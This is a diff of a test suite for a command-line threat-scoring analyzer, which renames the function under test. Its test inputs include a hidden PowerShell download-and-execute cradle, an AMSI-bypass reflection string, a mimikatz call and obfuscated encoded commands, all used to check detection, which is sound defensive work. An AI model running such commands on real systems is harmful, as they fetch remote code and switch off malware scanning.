@@ -6,7 +6,7 @@
 import fc from 'fast-check';
 import { RE2JS } from 're2js';
 import { describe, expect, test } from 'vitest';
-import { analyzeCommandLine, CUSTOM_PATTERNS_MAX, LINE_CHARS_MAX } from './analyze.ts';
+import { publishedAnalysis, CUSTOM_PATTERNS_MAX, LINE_CHARS_MAX } from './analyze.ts';
 import { CATEGORIES } from './categories.ts';
 import { riskOf, scoreOf } from './score.ts';
 import type { CategoryFinding, Group } from './types.ts';
@@ -15,7 +15,7 @@ const CRADLE = `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString
 const AMSI = `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')`;
 
 function categories(line: string, customPatterns: readonly string[] = []): readonly string[] {
-  return analyzeCommandLine(line, { customPatterns }).findings.map(({ category }) => category);
+  return publishedAnalysis(line, { customPatterns }).findings.map(({ category }) => category);
 }
 
 function utf16(text: string): string {
@@ -41,7 +41,7 @@ describe('levels', () => {
     ['cmd.exe /c echo ${alert.agentid} ${lists.ApiKeys}', 'Low Risk'],
     ['', 'Low Risk'],
   ])('%s is %s', (line, risk) => {
-    expect(analyzeCommandLine(line).risk).toBe(risk);
+    expect(publishedAnalysis(line).risk).toBe(risk);
   });
 
   test.each([
@@ -52,7 +52,7 @@ describe('levels', () => {
     'nslookup a.example.com 8.8.8.8',
     'powershell -nop Get-ADUser',
   ])('one discovery command is at most medium: %s', (line) => {
-    expect(['Low Risk', 'Medium Risk']).toContain(analyzeCommandLine(line).risk);
+    expect(['Low Risk', 'Medium Risk']).toContain(publishedAnalysis(line).risk);
   });
 });
 
@@ -92,7 +92,7 @@ describe('the published scale', () => {
   });
 
   test('the explanation adds up to the score', () => {
-    const { explanation, score } = analyzeCommandLine(`cmd.exe /c powershell ${CRADLE}`);
+    const { explanation, score } = publishedAnalysis(`cmd.exe /c powershell ${CRADLE}`);
     expect(explanation.map(({ points }) => points)).toEqual([25, 5, 10, 30, 0]);
     expect(explanation.at(-1)).toMatchObject({ total: 70, step: `70 of 120 points is a score of ${score}` });
   });
@@ -299,21 +299,21 @@ describe('what is hidden is seen', () => {
     ['octal', 'printf "\\167\\150\\157\\141\\155\\151"', 'printf "whoami"', 'obfuscated'],
     ['joined strings', `& ('amsi' + 'Utils')`, `& ('amsiUtils')`, 'amsi_bypass'],
   ])('%s', (_name, line, parsed, category) => {
-    const analysis = analyzeCommandLine(line);
+    const analysis = publishedAnalysis(line);
     expect(analysis).toMatchObject({ originalCommand: line, parsedCommand: parsed });
     expect(analysis.findings.map((finding) => finding.category)).toContain(category);
   });
 
   test('double encoding is reported, once', () => {
     const line = `powershell -enc ${utf16(`powershell -enc ${utf16('whoami')}`)}`;
-    expect(analyzeCommandLine(line).isDoubleEncoded).toBe(true);
-    expect(analyzeCommandLine(`powershell -enc ${utf16('whoami')}`).isDoubleEncoded).toBe(false);
+    expect(publishedAnalysis(line).isDoubleEncoded).toBe(true);
+    expect(publishedAnalysis(`powershell -enc ${utf16('whoami')}`).isDoubleEncoded).toBe(false);
   });
 });
 
 describe('custom patterns', () => {
   test('count once, in the high group, and are not split at commas', () => {
-    const { findings } = analyzeCommandLine('setup.exe --x aa,b', { customPatterns: ['a{1,3},b', '--x'] });
+    const { findings } = publishedAnalysis('setup.exe --x aa,b', { customPatterns: ['a{1,3},b', '--x'] });
     expect(findings).toMatchObject([
       { kind: 'category', category: 'custom_patterns', weight: 25, matches: ['aa,b', '--x'] },
     ]);
@@ -322,7 +322,7 @@ describe('custom patterns', () => {
   test.each(['(', '(?=x)', 'a{1001}', '', '  ', 'x'.repeat(1001), '\\1'])(
     'an invalid one is a finding, not an exception: %.20s',
     (pattern) => {
-      const analysis = analyzeCommandLine('x', { customPatterns: [pattern] });
+      const analysis = publishedAnalysis('x', { customPatterns: [pattern] });
       expect(analysis).toMatchObject({ score: 0, findings: [{ kind: 'error', category: 'custom_patterns' }] });
     },
   );
@@ -335,7 +335,7 @@ describe('custom patterns', () => {
     'an expensive one takes little time: %.20s',
     (pattern) => {
       const started = performance.now();
-      const { findings } = analyzeCommandLine('a'.repeat(LINE_CHARS_MAX), {
+      const { findings } = publishedAnalysis('a'.repeat(LINE_CHARS_MAX), {
         customPatterns: Array.from({ length: 8 }, () => pattern),
       });
       expect(performance.now() - started).toBeLessThan(4000);
@@ -344,7 +344,7 @@ describe('custom patterns', () => {
   );
 
   test('too many are named', () => {
-    const { findings } = analyzeCommandLine('x', {
+    const { findings } = publishedAnalysis('x', {
       customPatterns: Array.from({ length: CUSTOM_PATTERNS_MAX + 1 }, () => 'y'),
     });
     expect(findings).toMatchObject([{ kind: 'error' }]);
@@ -353,7 +353,7 @@ describe('custom patterns', () => {
 
 describe('bounds', () => {
   test('of a long line the head and the tail are read, and it says so', () => {
-    const { findings, parsedCommand } = analyzeCommandLine(`mimikatz ${'x'.repeat(2 * LINE_CHARS_MAX)} amsiutils`);
+    const { findings, parsedCommand } = publishedAnalysis(`mimikatz ${'x'.repeat(2 * LINE_CHARS_MAX)} amsiutils`);
     expect(findings.map(({ category }) => category)).toEqual(['amsi_bypass', 'malicious_tools', 'limits']);
     expect(parsedCommand.length).toBeLessThanOrEqual(LINE_CHARS_MAX);
   });
@@ -386,7 +386,7 @@ describe('bounds', () => {
     'PowerSHELL',
   ])('a megabyte of %j takes little time', (piece) => {
     const started = performance.now();
-    analyzeCommandLine(piece.repeat(1_000_000 / piece.length));
+    publishedAnalysis(piece.repeat(1_000_000 / piece.length));
     expect(performance.now() - started).toBeLessThan(4000);
   });
 
@@ -421,7 +421,7 @@ describe('bounds', () => {
         fc.array(fc.string({ maxLength: 8 }), { maxLength: 2 }),
         (pieces, customPatterns) => {
           const line = pieces.join('');
-          const { score, risk, findings, explanation, originalCommand } = analyzeCommandLine(line, { customPatterns });
+          const { score, risk, findings, explanation, originalCommand } = publishedAnalysis(line, { customPatterns });
           const keys = findings.flatMap(({ kind, category }) => (kind === 'category' ? [category] : []));
           expect(originalCommand).toBe(line);
           expect(risk).toBe(riskOf(score));
